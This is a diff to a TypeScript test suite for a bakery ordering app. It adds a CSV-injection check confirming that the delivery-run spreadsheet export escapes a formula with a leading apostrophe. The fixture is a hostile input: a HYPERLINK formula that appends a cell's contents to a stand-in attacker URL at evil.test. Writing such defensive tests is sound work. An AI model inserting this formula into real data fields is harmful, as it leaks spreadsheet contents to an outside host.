@@ -66,6 +66,9 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
+/** A customer's instructions a spreadsheet would run as a formula (CSV injection), over two lines. */
+const FORMULA_INSTRUCTIONS = '=HYPERLINK("https://evil.test/?"&A1,"Back door 12")\nRing twice';
+
 const pdfText = (pdf: Buffer) => execFileSync('pdftotext', ['-layout', '-', '-'], { input: pdf }).toString();
 const pdfInfo = (pdf: Buffer) => execFileSync('pdfinfo', ['-'], { input: pdf }).toString();
 
@@ -176,7 +179,7 @@ describe('production documents', () => {
       if (k % 2 === 0) lines.push({ productId: sourdough.id, quantity: 1 + (k % 3) });
       for (const line of lines) expect((await customer.client.post('/api/cart', line)).status).toBe(201);
       const slot = k < 12 ? EARLY : k < 24 ? MID : null;
-      const instructions = k % 6 === 0 ? `Back door ${k}` : null;
+      const instructions = k === 12 ? FORMULA_INSTRUCTIONS : k % 6 === 0 ? `Back door ${k}` : null;
       const placed = await customer.client.post('/api/orders', { deliveryDate: DATE, ...(slot ? { deliveryTimeSlot: slot } : {}), ...(instructions ? { specialInstructions: instructions } : {}) });
       expect(placed.status).toBe(201);
       orders.push({ id: placed.body.id, customer, slot, instructions, lines, cancelled: false });
@@ -456,8 +459,12 @@ describe('production documents', () => {
     const runRows = parseCsv(runCsv.body.toString('utf8').replace(/^\ufeff/, ''));
     expect(runRows[0]).toEqual(['Slot', 'Stop', 'Customer', 'Address', 'Phone', 'Items', 'Instructions', 'Orders']);
     expect(runRows.slice(1)).toEqual(
-      sheet.slots.flatMap(({ slot, stops }) => stops.map((s) => [slot ?? '', String(s.position), s.businessName, s.address, s.phone, String(s.items), s.instructions ?? '', s.orderIds.join(' ')])),
+      sheet.slots.flatMap(({ slot, stops }) =>
+        stops.map((s) => [slot ?? '', String(s.position), s.businessName, s.address, s.phone, String(s.items), s.instructions === FORMULA_INSTRUCTIONS ? `'${FORMULA_INSTRUCTIONS}` : (s.instructions ?? ''), s.orderIds.join(' ')]),
+      ),
     );
+    // the formula arrives as text, its two lines in one cell
+    expect(runRows.find((r) => r[0] === MID && r[2] === 'Cedar Deli')?.[6]).toBe(`'=HYPERLINK("https://evil.test/?"&A1,"Back door 12")\nRing twice`);
     // an address with a comma survives the round trip
     expect(runRows.slice(1).map((r) => r[3])).toContain('1 Alder Cafe Road, London');
   });
